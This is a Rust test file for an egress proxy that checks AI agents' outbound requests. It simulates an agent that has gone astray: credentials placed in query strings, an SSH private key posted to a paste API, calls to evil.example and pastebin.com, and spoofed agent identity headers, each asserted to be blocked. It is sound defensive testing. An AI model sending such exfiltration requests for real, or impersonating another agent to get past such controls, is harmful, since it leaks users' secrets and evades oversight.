//! What an agent that has gone astray tries first: a key in a query, a stolen file at an API that it may use, a place
//! that it may not reach, another agent's name.

use super::{KEY, RULE, TOKEN, assert_untold, finding, passed, private_key, refused};
use crate::support::{Ask, PROTOCOLS, Place};

const POLICY: &str = "
blockedDomains: [pastebin.com]
agents:
  researcher:
    identity: [{header: {name: X-Attache-Agent, value: researcher, trusted: true}}]
    allowedDomains: [api.arxiv.org, collect.example, api.paste.example]
  coder:
    identity: [{token: {env: CODER_TOKEN}}]
    allowedDomains: [api.github.com, collect.example, api.paste.example]
";
const HOSTS: [&str; 6] =
    ["api.arxiv.org", "collect.example", "api.paste.example", "api.github.com", "pastebin.com", "evil.example"];
const CODER: &str = "coder-token-0123456789";
/// A key as an example prints it: not one that its vendor would make.
const PRINTED: &str = "AKIA1234567890ABCDEF";

async fn place() -> Place {
    Place::with(POLICY, HOSTS, |setup| setup.env("CODER_TOKEN", CODER)).await
}

/// The request as each of the agents sends it.
fn by_each(ask: &Ask) -> [(&'static str, Ask); 2] {
    let token = format!("Bearer {CODER}");
    [
        ("researcher", ask.clone().header("x-attache-agent", "researcher")),
        ("coder", ask.clone().connect_header("proxy-authorization", &token)),
    ]
}

#[tokio::test]
async fn a_key_in_a_query_does_not_leave() {
    let place = place().await;
    for protocol in PROTOCOLS {
        for key in [PRINTED, KEY] {
            let ask = Ask::get(protocol, &format!("https://collect.example/collect?key={key}"));
            for (agent, ask) in by_each(&ask) {
                let outcome = refused(&place, ask, RULE, "query").await;
                let found = finding(&outcome.record, RULE);
                assert_eq!((&outcome.record["agent"], &found["category"]), (&agent.into(), &"credentials".into()));
                assert!(["medium", "high"].contains(&found["confidence"].as_str().unwrap()), "{found}");
                assert_eq!(outcome.record["decision"], "deny");
            }
        }
        for (_, ask) in by_each(&Ask::get(protocol, "https://collect.example/collect?key=llm+security")) {
            passed(&place, ask).await;
        }
    }
    assert_untold(&place, &[PRINTED, KEY]);
    let blocked = place.attache.logs(&["--agent", "researcher", "--status", "blocked"]).await;
    assert!(blocked.len() == 4 && blocked.iter().all(|record| record["reason"] == "dlp_blocked"), "{blocked:?}");
}

#[tokio::test]
async fn a_stolen_file_is_not_staged_at_an_api_that_is_allowed() {
    let place = place().await;
    let key = private_key();
    let body = format!("api_option=paste&api_paste_code=SSH_PRIVATE_KEY={key}");
    for protocol in PROTOCOLS {
        let url = "https://api.paste.example/api/api_post.php";
        for content_type in ["application/x-www-form-urlencoded", "text/plain"] {
            let ask = Ask::new(protocol, "POST", url).header("content-type", content_type).whole_body(&body);
            for (agent, ask) in by_each(&ask) {
                let outcome = place.send(ask).await;
                assert!(outcome.to_string().starts_with("403 dlp_blocked "), "{outcome}");
                assert_eq!(outcome.record["agent"], agent);
                let rule = outcome.record["rule"].as_str().unwrap();
                assert_eq!(finding(&outcome.record, rule)["category"], "credentials", "{}", outcome.record);
                let location = finding(&outcome.record, rule)["location"].as_str().unwrap().to_owned();
                assert!(location.starts_with("body"), "{location}");
            }
        }
        for (_, ask) in by_each(&Ask::new(protocol, "POST", url).whole_body("api_option=paste&api_paste_code=hello")) {
            passed(&place, ask).await;
        }
    }
    assert_untold(&place, &["b3BlbnNzaC1rZXktdjEAAAAABG5vbmU", "QyNTUxOQAAACB7qkT0xM2pVw9sYc4RjKfLhD8nGv1U"]);
}

#[tokio::test]
async fn an_unlisted_domain_and_another_agents_name_lead_nowhere() {
    let place = place().await;
    for protocol in PROTOCOLS {
        for host in ["evil.example", "pastebin.com"] {
            for (_, ask) in by_each(&Ask::get(protocol, &format!("https://{host}/?q={KEY}"))) {
                let outcome = place.send(ask).await;
                assert!([401, 403, 407].contains(&outcome.reply.status), "{outcome:?}");
            }
        }
        // The coder has no header, so that nobody can take its name by one.
        for name in ["coder", "nobody", "researcher2"] {
            let ask = Ask::get(protocol, "https://collect.example/").header("x-attache-agent", name);
            assert_eq!(place.send(ask).await.to_string(), "401 unknown_identity");
        }
        // Both names at once are no more than one: what is looked for stays the same.
        let token = format!("Bearer {CODER}");
        let both = Ask::get(protocol, &format!("https://api.github.com/?t={TOKEN}"))
            .connect_header("proxy-authorization", &token)
            .header("x-attache-agent", "researcher");
        assert_ne!(place.send(both).await.reply.status, 200);
        let outcome =
            passed(&place, Ask::get(protocol, "https://collect.example/a").header("x-attache-agent", "researcher"))
                .await;
        let seen = outcome.seen.unwrap();
        assert!(seen.headers.keys().all(|name| !name.as_str().starts_with("x-attache")), "{seen:?}");
    }
    assert_untold(&place, &[KEY, TOKEN]);
}
